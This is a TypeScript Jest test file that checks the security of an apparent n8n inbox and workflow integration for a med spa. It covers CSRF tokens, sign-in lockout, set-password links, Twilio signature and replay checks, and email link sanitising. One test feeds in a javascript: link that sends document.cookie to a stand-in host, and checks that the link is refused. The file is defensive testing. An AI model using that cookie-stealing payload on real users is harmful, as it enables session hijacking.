/**
 * What stops people who should not get in, in a real n8n host behind a proxy whose public address
 * differs from n8n's own: Inbox sign-in (form token, throttling, sign-out, set-password links),
 * Twilio callbacks (signed against the Public Base URL only, replays, malformed requests), and a
 * script link refused while a web link is tracked through the endpoint. The Redirect Page, private
 * file URLs and the workspace file's permissions are checked in process: test/inprocess/security.test.ts.
 */
import { request } from 'node:http';
import type { WorkspaceStore } from '../../core/store/workspaceStore';
import { Visitor } from '../support/inboxVisitor';

const { startStack, exampleWorkflow } = require('../support/stack');
const { twilioSignature } = require('../support/twilioDouble');
const { webhookWorkflow } = require('../support/workflows');
const { setPassword } = require('../../dist/core/inbox/auth');

jest.setTimeout(300_000);

type Stack = Awaited<ReturnType<typeof startStack>>;
let stack: Stack;
let store: WorkspaceStore;

const PUBLIC_BASE_URL = 'https://n8n.glowmedspa.test';
const PASSWORD = 'Glow-Inbox-2026';
const WORKSPACE = {
	aesthetixWorkspaceApi: { id: 'aeWorkspace00001', name: 'Glow Med Spa workspace' },
};
const ids: Record<string, number> = {};
/** Failed sign-ins after which an account is paused, as docs/operations/security.md says. */
const ACCOUNT_FAILURES = 10;

const workflows = [
	exampleWorkflow('workspace-endpoint.json'),
	webhookWorkflow('aePasswordLink01', 'password-link', {
		name: 'Password Link',
		type: 'n8n-nodes-aesthetix.workspace',
		credentials: WORKSPACE,
		parameters: {
			resource: 'teamUser',
			operation: 'passwordLink',
			userId: '={{ $json.body.id }}',
			expiresAfterHours: 2,
		},
	}),
	webhookWorkflow('aeImportWithPass', 'import-with-passwords', {
		name: 'Import Team',
		type: 'n8n-nodes-aesthetix.workspace',
		credentials: WORKSPACE,
		onError: 'continueRegularOutput',
		parameters: { resource: 'teamUser', operation: 'import', users: '={{ $json.body.users }}' },
	}),
	webhookWorkflow('aeEmailLinkSafe', 'email-link', {
		name: 'Email',
		type: 'n8n-nodes-aesthetix.sendEmail',
		credentials: { ...WORKSPACE, aesthetixSmtpApi: { id: 'aeSmtpLocal00001', name: 'Local SMTP' } },
		onError: 'continueRegularOutput',
		parameters: {
			contact: '={{ $json.body.contact }}',
			fromEmail: 'hello@glowmedspa.test',
			subject: 'Your page',
			message: '<p>Hi {{contact.first_name}}, <a href="{{contact.website}}">your page</a></p>',
		},
	}),
];

const inbox = () => `${stack.host.baseUrl}/webhook/aesthetix/inbox`;
const newVisitor = () => new Visitor(inbox);

/** A request with any Host header, which fetch does not allow. */
function rawPost(
	url: string,
	headers: Record<string, string>,
	body: string,
): Promise<{ status: number; text: string }> {
	return new Promise((resolve, reject) => {
		const req = request(url, { method: 'POST', headers }, (res) => {
			let text = '';
			res.setEncoding('utf8');
			res.on('data', (c) => (text += c));
			res.on('end', () => resolve({ status: res.statusCode ?? 0, text }));
		});
		req.on('error', reject);
		req.end(body);
	});
}

beforeAll(async () => {
	stack = await startStack({
		name: 'security',
		port: 5771,
		workflows,
		workspace: { publicBaseUrl: PUBLIC_BASE_URL },
	});
	store = await stack.openWorkspace();
	for (const [key, user] of Object.entries({
		maya: { name: 'Maya Lopez', email: 'maya@glowmedspa.test', role: 'coordinator' },
		sam: { name: 'Sam Reyes', email: 'sam@glowmedspa.test', role: 'coordinator' },
		olivia: { name: 'Olivia Owner', email: 'owner@glowmedspa.test', role: 'owner' },
	})) {
		ids[key] = (await store.teamUsers.create(user)).id;
		await setPassword(store, ids[key], PASSWORD);
	}
});

afterAll(async () => {
	await store?.close();
	await stack?.stop();
});

describe('Inbox sign-in', () => {
	it('refuses a sign-in posted without the form token, as another site would post it', async () => {
		const visitor = newVisitor();
		const forged = await visitor.fetch(`${inbox()}/login`, {
			form: { email: 'maya@glowmedspa.test', password: PASSWORD },
		});
		expect(forged.status).toBe(403);
		expect(forged.text).toContain('This form has expired. Reload the page and try again.');
		expect(forged.headers.getSetCookie().some((c) => c.startsWith('aesthetix_inbox='))).toBe(false);
		const page = await visitor.fetch(`${inbox()}/login`);
		const guessed = await visitor.fetch(`${inbox()}/login`, {
			form: { csrf: 'guess', email: 'maya@glowmedspa.test', password: PASSWORD },
		});
		expect(guessed.status).toBe(403);
		const real = await visitor.fetch(`${inbox()}/login`, {
			form: { csrf: Visitor.csrf(page.text), email: 'maya@glowmedspa.test', password: PASSWORD },
		});
		expect(real.status).toBe(303);
	});

	it('signs out only through the Sign out form, not by a link', async () => {
		const visitor = newVisitor();
		expect((await visitor.signIn('maya@glowmedspa.test', PASSWORD)).status).toBe(303);
		const link = await visitor.fetch(`${inbox()}/logout`);
		expect(link.status).toBe(303);
		const queue = await visitor.fetch(inbox());
		expect(queue.status).toBe(200);
		const signOut = await visitor.fetch(`${inbox()}/logout`, {
			form: { csrf: Visitor.csrf(queue.text) },
		});
		expect(signOut.headers.get('location')).toBe('/webhook/aesthetix/inbox/login');
		expect((await visitor.fetch(inbox())).headers.get('location')).toBe(
			'/webhook/aesthetix/inbox/login',
		);
	});

	it('pauses an account after 10 failed attempts, refusing even the right password, and says when to retry', async () => {
		const visitor = newVisitor();
		for (let n = 0; n < ACCOUNT_FAILURES; n++) {
			expect((await visitor.signIn('owner@glowmedspa.test', `wrong-${n}-password`)).status).toBe(
				401,
			);
		}
		const paused = await visitor.signIn('owner@glowmedspa.test', PASSWORD);
		expect(paused.status).toBe(429);
		expect(paused.text).toContain('Too many sign-in attempts. Try again in 15 minutes.');
		expect(Number(paused.headers.get('retry-after'))).toBeGreaterThan(14 * 60);
		// Another account from the same address is not paused.
		expect((await newVisitor().signIn('sam@glowmedspa.test', PASSWORD)).status).toBe(303);
	});

	it('refuses a 15 MiB password quickly, as a failed attempt', async () => {
		const visitor = newVisitor();
		const started = Date.now();
		const huge = await visitor.signIn('sam@glowmedspa.test', 'x'.repeat(15 * 1024 * 1024));
		expect(huge.status).toBe(401);
		expect(Date.now() - started).toBeLessThan(10_000);
		expect(
			(
				await store.db.get<{ points: number }>('SELECT points FROM inbox_throttle WHERE key = ?', [
					'signin:account:sam@glowmedspa.test',
				])
			)?.points,
		).toBe(1);
	});
});

describe('set-password links', () => {
	it('lets a team user choose their password once, ending their other sessions', async () => {
		const before = newVisitor();
		expect((await before.signIn('sam@glowmedspa.test', PASSWORD)).status).toBe(303);
		const { json } = await stack.trigger('password-link', { id: ids.sam });
		expect(json[0]).toMatchObject({
			user_id: ids.sam,
			name: 'Sam Reyes',
			email: 'sam@glowmedspa.test',
		});
		const link: string = json[0].set_password_url;
		expect(link).toMatch(
			new RegExp(`^${PUBLIC_BASE_URL}/webhook/aesthetix/inbox/set-password\\?token=[\\w-]{43}$`),
		);
		expect(Date.parse(json[0].expires_at) - Date.now()).toBeGreaterThan(119 * 60_000);
		// The proxy at the Public Base URL forwards to n8n.
		const local = link.replace(PUBLIC_BASE_URL, stack.host.baseUrl);
		const sam = newVisitor();
		const form = await sam.fetch(local);
		expect(form.status).toBe(200);
		const token = new URL(local).searchParams.get('token')!;
		const mismatch = await sam.fetch(`${inbox()}/set-password`, {
			form: {
				csrf: Visitor.csrf(form.text),
				token,
				password: 'Sam-chose-this-1',
				confirm: 'Sam-chose-that-1',
			},
		});
		expect(mismatch.status).toBe(400);
		const set = await sam.fetch(`${inbox()}/set-password`, {
			form: {
				csrf: Visitor.csrf(form.text),
				token,
				password: 'Sam-chose-this-1',
				confirm: 'Sam-chose-this-1',
			},
		});
		expect(set.status).toBe(303);
		expect(set.headers.get('location')).toBe('/webhook/aesthetix/inbox/login?password=set');
		expect((await before.fetch(inbox())).headers.get('location')).toBe(
			'/webhook/aesthetix/inbox/login',
		);
		expect((await sam.signIn('sam@glowmedspa.test', PASSWORD)).status).toBe(401);
		expect((await sam.signIn('sam@glowmedspa.test', 'Sam-chose-this-1')).status).toBe(303);
		const again = await newVisitor().fetch(local);
		expect(again.status).toBe(410);
		expect(again.text).toContain('This set-password link has expired or was already used.');
	});

	it('refuses an imported list that carries passwords', async () => {
		const { json } = await stack.trigger('import-with-passwords', {
			users: [{ name: 'Pat Doe', email: 'pat@glowmedspa.test', password: 'Pat-password-1' }],
		});
		expect(json[0].error).toMatchObject({
			message: 'Users: entry 1 has a password, and imported lists carry none',
		});
		expect(await store.teamUsers.findByEmail('pat@glowmedspa.test')).toBeUndefined();
	});
});

describe('Twilio callbacks behind a proxy', () => {
	const path = '/webhook/aesthetix/twilio/inbound';
	const text = (from: string, body: string) => ({
		AccountSid: stack.twilio.accountSid,
		MessageSid: `SM${from.slice(-4)}${'0'.repeat(28)}`,
		From: from,
		To: '+15550009999',
		Body: body,
		NumMedia: '0',
	});
	const post = (params: Record<string, string>, signedUrl: string) =>
		fetch(`${stack.host.baseUrl}${path}`, {
			method: 'POST',
			headers: {
				'content-type': 'application/x-www-form-urlencoded',
				'x-twilio-signature': twilioSignature(stack.twilio.authToken, signedUrl, params),
			},
			body: new URLSearchParams(params).toString(),
		});
	const logged = async (phone: string) => {
		const contact = await store.contacts.findByEmailOrPhone(null, phone);
		return contact
			? (await store.conversations.forContact(contact.id)).filter((m) => m.direction === 'inbound')
			: [];
	};

	it('accepts a callback signed for the Public Base URL, and refuses one signed for the Host n8n was reached at', async () => {
		const forHost = await post(text('+15552220001', 'Hello'), `${stack.host.baseUrl}${path}`);
		expect(forHost.status).toBe(403);
		expect(await logged('+15552220001')).toHaveLength(0);
		const forPublic = await post(text('+15552220001', 'Hello'), `${PUBLIC_BASE_URL}${path}`);
		expect(forPublic.status).toBe(200);
		expect((await logged('+15552220001')).map((m) => m.body)).toEqual(['Hello']);
	});

	it('acts on a replayed callback once', async () => {
		const stop = text('+15552220002', 'STOP');
		expect((await post(stop, `${PUBLIC_BASE_URL}${path}`)).status).toBe(200);
		expect((await store.contacts.findByEmailOrPhone(null, '+15552220002'))?.sms_opted_out).toBe(
			true,
		);
		const start = text('+15552220002', 'START');
		start.MessageSid = `SM2222${'1'.repeat(28)}`;
		expect((await post(start, `${PUBLIC_BASE_URL}${path}`)).status).toBe(200);
		// The captured STOP, posted again, is answered but changes nothing.
		const replay = await post(stop, `${PUBLIC_BASE_URL}${path}`);
		expect(replay.status).toBe(200);
		expect((await store.contacts.findByEmailOrPhone(null, '+15552220002'))?.sms_opted_out).toBe(
			false,
		);
		expect((await logged('+15552220002')).map((m) => m.body)).toEqual(['STOP', 'START']);
		const receipts = await store.db.all(
			'SELECT replay_key FROM webhook_receipts WHERE replay_key IN (?, ?)',
			[`twilio:inbound:${stop.MessageSid}`, `twilio:inbound:${start.MessageSid}`],
		);
		expect(receipts).toHaveLength(2);
	});

	it('answers a malformed Host with 403 and a null body with 400, never a 500', async () => {
		const params = text('+15552220003', 'Hi');
		const body = new URLSearchParams(params).toString();
		const badHost = await rawPost(
			`${stack.host.baseUrl}${path}`,
			{
				host: 'bad host!',
				'content-type': 'application/x-www-form-urlencoded',
				'x-twilio-signature': twilioSignature(
					stack.twilio.authToken,
					`http://bad host!${path}`,
					params,
				),
			},
			body,
		);
		expect(badHost.status).toBe(403);
		expect(badHost.text).not.toMatch(/at .*\.js:\d+/);
		const nullBody = await fetch(`${stack.host.baseUrl}${path}`, {
			method: 'POST',
			headers: { 'content-type': 'application/json', 'x-twilio-signature': 'x' },
			body: 'null',
		});
		expect(nullBody.status).toBe(400);
		expect(await nullBody.text()).not.toMatch(/at .*\.js:\d+/);
		const status = await fetch(`${stack.host.baseUrl}/webhook/aesthetix/twilio/status`, {
			method: 'POST',
			headers: { 'content-type': 'application/json', 'x-twilio-signature': 'x' },
			body: '["MessageSid"]',
		});
		expect(status.status).toBe(400);
		expect(await logged('+15552220003')).toHaveLength(0);
	});
});

describe('what workflows render and download', () => {
	it('refuses to email a link whose custom value is javascript:, and sends a web link', async () => {
		stack.smtp.reset();
		const bad = await stack.trigger('email-link', {
			contact: {
				first_name: 'Eve',
				email: 'eve@example.com',
				website: 'javascript:fetch("//evil.example/"+document.cookie)',
			},
		});
		expect(bad.json[0].error.message).toBe(
			'Message could not be rendered: the link from {{contact.website}} starts with "javascript:", and links may not run script or carry data',
		);
		const good = await stack.trigger('email-link', {
			contact: { first_name: 'Ana', email: 'ana@example.com', website: 'https://ana.example/' },
		});
		expect(good.json[0].error).toBeUndefined();
		const [mail] = await stack.smtp.waitForMessages(1);
		// The web link goes out as a tracked link (Email Delivery Statistics) that leads to the page.
		const tracked = /<a href="([^"]+)">your page<\/a>/.exec(mail.html)![1];
		expect(tracked.startsWith(`${PUBLIC_BASE_URL}/webhook/aesthetix/email/click?t=`)).toBe(true);
		const followed = await fetch(tracked.replace(PUBLIC_BASE_URL, stack.host.baseUrl), {
			redirect: 'manual',
		});
		expect(followed.headers.get('location')).toBe('https://ana.example/');
		expect(stack.smtp.messages).toHaveLength(1);
	});
});
